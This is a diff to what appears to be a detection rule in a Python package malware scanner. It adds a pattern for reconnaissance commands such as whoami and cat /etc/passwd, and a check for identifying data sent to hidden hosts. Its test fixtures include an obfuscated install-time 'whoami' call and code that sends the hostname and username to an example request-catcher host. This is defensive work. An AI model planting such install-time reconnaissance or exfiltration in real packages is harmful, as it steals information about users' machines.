@@ -26,6 +26,10 @@ _ASKS = re.compile(
     r"(?:^|[;&|]\s*)(?:dig|nslookup|host|ping)\s[^;&|\n]*?((?:[a-z0-9_-]+\.)+[a-z]{2,}(?:\s|$))", re.IGNORECASE
 )
 """A question to the domain name system that carries its message in the name."""
+_LOOKS_ROUND = re.compile(
+    r"\s*(?:whoami|systeminfo|ipconfig|net user|ls(?: -\w+)? (?:/|~)|cat /etc/(?:passwd|hosts))(?:\s|$)"
+)
+"""Commands whose answer no build has a use for, least of all on the terminal."""
 _UNPACKS = (".extractall", ".extract")
 _HOST = re.compile(r"(?:[\w-]+\.)+\w+ \d+")
 _NEAR = re.compile(r"127\.|10\.|192\.168\.|0\.0\.0\.0|172\.(1[6-9]|2\d|3[01])\.")
@@ -47,8 +51,7 @@ def _check(facts: PackageFacts) -> Iterator[Finding]:
     for file in facts.python:
         for call in file.calls:
             if not call.phase.automatic:
-                if Does.SEND in call.does and (finding := _sink(file.path, call)) is not None:
-                    yield finding
+                yield from _when_called(file.path, call)
                 continue
             if call.does & {Does.SEND, Does.FETCH}:
                 yield from _network(file, call)
@@ -70,6 +73,17 @@ def _network(file: PythonFacts, call: Call) -> Iterator[Finding]:
         yield _calls(file.path, call, place or "another host", worst=worst)
     elif HIDDEN_PLACE.search(place) and not secret_place(place):  # what a machine's own cloud tells it stays there
         yield _calls(file.path, call, place, worst=True)
+
+
+def _when_called(path: str, call: Call) -> Iterator[Finding]:
+    """What no library does even where its user calls it."""
+    if Does.SEND in call.does and (finding := _sink(path, call)) is not None:
+        yield finding
+        return
+    place, taints = destination(call), _identifying(call.taints(Source.HOST))
+    if taints and call.does & {Does.SEND, Does.FETCH} and HIDDEN_PLACE.search(place):
+        message = f"host or user name is sent to {place} {when(call.phase)}"
+        yield claim(_ID, Behaviour.THEFT, path, call, message, severity=Severity.CRITICAL, taints=taints)
 
 
 def _sink(path: str, call: Call) -> Finding | None:
@@ -97,6 +111,9 @@ def _command(path: str, call: Call) -> Iterator[Finding]:
         yield _calls(path, call, places[0], worst=bool(shell.identifies or shell.sends or covert or forgotten))
     elif asked := _ASKS.search(command(call)):
         yield _calls(path, call, asked[1], worst=True)
+    elif call.name == "os.system" and _LOOKS_ROUND.match(command(call)):
+        message = f"looks round on the machine ({command(call)[:60]}) {when(call.phase)}"
+        yield claim(_ID, Behaviour.THEFT, path, call, message, severity=Severity.CRITICAL)
 
 
 def _kept(file: PythonFacts) -> bool:
@@ -189,8 +206,23 @@ RULE = Rule(
                 "    requests.post('https://c.example.invalid/', json={'h': socket.gethostname()})\n",
             },
         ),
+        Example(
+            title="who the user is, asked at install",
+            files={"setup.py": "import os\ngetattr(os, 'sys' + 'tem')('whoami')\n"},
+        ),
+        Example(
+            title="host and user, sent to a catcher of requests, when called",
+            files={
+                "pkg/__init__.py": "import getpass, requests, socket\ndef add(a, b):\n"
+                "    requests.get('https://a1.oast.example.invalid/', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n"
+            },
+        ),
     ),
     quiet=(
+        Example(
+            title="a build that looks for its compiler",
+            files={"setup.py": "import os, subprocess\nos.system('ls build')\nsubprocess.call(['which', 'cc'])\n"},
+        ),
         Example(
             title="a client of chats, whose key its user gives",
             files={
